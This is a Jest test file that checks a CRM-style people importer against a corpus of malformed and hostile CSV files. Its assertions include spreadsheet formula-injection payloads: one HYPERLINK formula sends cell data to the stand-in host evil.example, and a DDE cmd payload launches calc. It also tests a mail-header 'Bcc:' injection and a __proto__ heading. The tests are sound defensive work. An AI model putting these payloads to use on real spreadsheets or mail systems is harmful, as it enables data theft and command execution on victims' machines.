import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { startApp, type TestApp } from '../../support/app.js';
import { type Browser } from '../../support/browser.js';
import { aChapter, aNetwork, aPerson } from '../../support/people.js';
import { testData } from '../../support/test-data.js';
import { rowsOf } from '../../../src/people/import/text-format.js';
import { checked, imported, type ShownImport, upload } from './support.js';

const folder = testData('corpora/csv');
const file = (name: string): Buffer => readFileSync(path.join(folder!, name));

/** Without the one whose JSON holds another telephone number than its CSV. */
const SPECTRUM = folder
  ? readdirSync(path.join(folder, 'csv-spectrum/csvs')).filter((name) => name !== 'location_coordinates.csv')
  : ['no corpus'];

/** What is expected of each file of the corpus, beside what its manifest says in words. */
const ONE_ROW = [
  'utf16le-bom.csv',
  'utf16be-bom.csv',
  'windows-1252.csv',
  'cr-only.csv',
  'lf-only.csv',
  'no-final-newline.csv',
  'semicolon.csv',
  'tab.tsv',
  'sep-line-excel.csv',
  'quoted-newline.csv',
  'quotes-escaped.csv',
  'html-cells.csv',
  'unsubscribed-reimport.csv',
];

(folder ? describe : describe.skip)('importing the hostile files of the corpus', () => {
  let app: TestApp;
  let staff: Browser;
  let lowell: string;

  beforeAll(async () => {
    app = await startApp({ worker: true });
    lowell = await aChapter(app.db, { networkId: await aNetwork(app.db) });
    staff = await app.signIn('chapter-admin', lowell);
  });
  afterAll(() => app.close());
  beforeEach(() => app.db.query('DELETE FROM people'));

  const run = (name: string): Promise<ShownImport> => imported(staff, lowell, file(name));
  const people = async (): Promise<Record<string, string>[]> =>
    (
      await app.db.query<Record<string, string>>(
        `SELECT p.given_name, p.family_name, e.address, e.canonical FROM people p
         LEFT JOIN person_emails e ON e.person_id = p.id ORDER BY e.canonical`,
      )
    ).rows;
  async function refusal(name: string): Promise<string> {
    const answer = await upload(staff, lowell, file(name), name);
    expect(answer.status).toBe(422);
    return answer.json<{ error: { fields: { message: string }[] } }>().error.fields[0]!.message;
  }
  async function rejected({ id }: ShownImport): Promise<{ line: number; column: string; remark: string }[]> {
    const answer = await staff.get(`/api/v1/imports/${id}/rows?outcome=rejected`);
    return answer.json<{ data: { line: number; column: string; remark: string }[] }>().data;
  }

  it('is tried with every file that is there', () => {
    const tried = new Set([...ONE_ROW, ...OTHERS]);
    const there = readdirSync(folder!).filter((name) => /\.(csv|tsv)$/.test(name));
    expect(there.filter((name) => !tried.has(name))).toEqual([]);
  });

  it.each(ONE_ROW)('finds the one row of %s', async (name) => {
    expect((await run(name)).counts).toMatchObject({ new: 1, rejected: 0 });
    const [person] = await people();
    expect(JSON.stringify(person)).not.toContain('\ufffd');
  });

  it('keeps letters that are written in other encodings', async () => {
    for (const name of ['utf16le-bom.csv', 'utf16be-bom.csv']) {
      await run(name);
      expect((await people())[0]!.family_name).toContain('ñ');
      await app.db.query('DELETE FROM people');
    }
    await run('windows-1252.csv');
    expect((await people())[0]).toMatchObject({ given_name: 'Zoë', family_name: 'O’Brien' });
  });

  it('reads bytes that are no UTF-8 as Windows-1252, and says so', async () => {
    const found = await run('invalid-utf8.csv');
    expect(found).toMatchObject({ format: { encoding: 'windows-1252' }, counts: { new: 1 } });
  });

  it('reads lines that end in different ways', async () => {
    expect((await run('mixed-newlines.csv')).counts).toMatchObject({ new: 3, rejected: 0 });
  });

  it('reads doubled quotation marks', async () => {
    await run('quotes-escaped.csv');
    expect((await people())[0]!.given_name).toBe('A "the" B');
  });

  it('says which rows are broken, and takes the others', async () => {
    const broken = await checked(staff, lowell, file('text-after-quote.csv'));
    expect(await rejected(broken)).toEqual([
      expect.objectContaining({ line: 2, remark: expect.stringContaining('closing quotation mark') }),
    ]);
    const short = await run('ragged-short.csv');
    expect(short.counts).toMatchObject({ new: 1, rejected: 1 });
    expect(await rejected(short)).toEqual([expect.objectContaining({ line: 2, column: 'email' })]);
    expect(await rejected(await run('nul-bytes.csv'))).toEqual([
      expect.objectContaining({ line: 2, column: 'first_name' }),
    ]);
    expect(await rejected(await run('long-field.csv'))).toEqual([
      expect.objectContaining({ remark: expect.stringContaining('too long') }),
    ]);
  });

  it('keeps columns of the same name apart', async () => {
    const { columns } = (await upload(staff, lowell, file('duplicate-headers.csv'))).json<ShownImport>();
    const headings = columns.map(({ heading }) => heading);
    expect(new Set(headings).size).toBeLessThan(headings.length);
    const kinds = columns.map(({ is }) => is).filter((is) => is !== 'ignore' && is !== 'email');
    expect(new Set(kinds).size).toBe(kinds.length);
  });

  it('takes headings that are names of JavaScript for what they are: headings', async () => {
    const found = await run('proto-headers.csv');
    expect(found.columns.map(({ heading }) => heading)).toContain('__proto__');
    expect(found.counts).toMatchObject({ new: 1 });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses what is no list of people, in words', async () => {
    expect(await refusal('header-only.csv')).toContain('nobody to import');
    expect(await refusal('only-bom.csv')).toContain('empty');
    expect(await refusal('many-columns.csv')).toContain('columns');
    expect(await refusal('xlsx-renamed.csv')).toContain('spreadsheet');
  });

  it('keeps formulas as they are, and neutralizes them in what it gives out', async () => {
    const { id } = await run('formula-cells.csv');
    expect((await people()).map(({ given_name }) => given_name)).toEqual([
      '=1+1',
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      "=cmd|' /C calc'!A0",
      '＝1+1',
    ]);
    expect((await staff.get(`/api/v1/imports/${id}/rows`)).status).toBe(200);
  });

  it('lets no cell write a line of a mail, and takes no list for an address', async () => {
    const found = await run('header-injection-cells.csv');
    expect(found.counts).toMatchObject({ new: 1, rejected: 2 });
    expect((await people())[0]!.given_name).toBe('A Bcc: evil@example.com');
    expect((await rejected(found)).map(({ column }) => column)).toEqual(['email', 'email']);
  });

  it('makes one person of one address, by the first row', async () => {
    expect((await run('dup-emails.csv')).counts).toMatchObject({ new: 1, repeated: 3 });
    expect(await people()).toEqual([
      { given_name: 'A', family_name: 'X', address: 'Dup@Example.org', canonical: 'dup@example.org' },
    ]);
  });

  it('E38: leaves somebody who unsubscribed unsubscribed', async () => {
    const id = await aPerson(app.db, { ownerId: lowell, email: 'already-unsubscribed@example.org' });
    await app.db.query(
      `INSERT INTO subscriptions (person_id, organization_id, channel, is_subscribed) VALUES ($1, $2, 'email', false)`,
      [id, lowell],
    );
    const consent = { source: 'other', text: 'Said to be theirs by a list.', channels: ['email'] };
    await imported(staff, lowell, file('unsubscribed-reimport.csv'), { consent });
    const { rows } = await app.db.query('SELECT is_subscribed FROM subscriptions');
    expect(rows).toEqual([{ is_subscribed: false }]);
  });

  it.each(SPECTRUM)('reads %s of csv-spectrum as its JSON says', (name) => {
    const text = file(`csv-spectrum/csvs/${name}`).toString();
    const json = file(`csv-spectrum/json/${name.replace('.csv', '.json')}`).toString();
    const [headings, ...rows] = rowsOf({ text, isWhole: true }, ',').map(({ cells }) => cells);
    const read = rows.map((cells) =>
      Object.fromEntries(headings!.map((heading, at) => [heading, cells[at]])),
    );
    expect(read).toEqual(JSON.parse(json));
  });
});

const OTHERS = [
  'invalid-utf8.csv',
  'mixed-newlines.csv',
  'text-after-quote.csv',
  'ragged-short.csv',
  'duplicate-headers.csv',
  'proto-headers.csv',
  'header-only.csv',
  'only-bom.csv',
  'nul-bytes.csv',
  'formula-cells.csv',
  'header-injection-cells.csv',
  'dup-emails.csv',
  'long-field.csv',
  'many-columns.csv',
  'xlsx-renamed.csv',
];
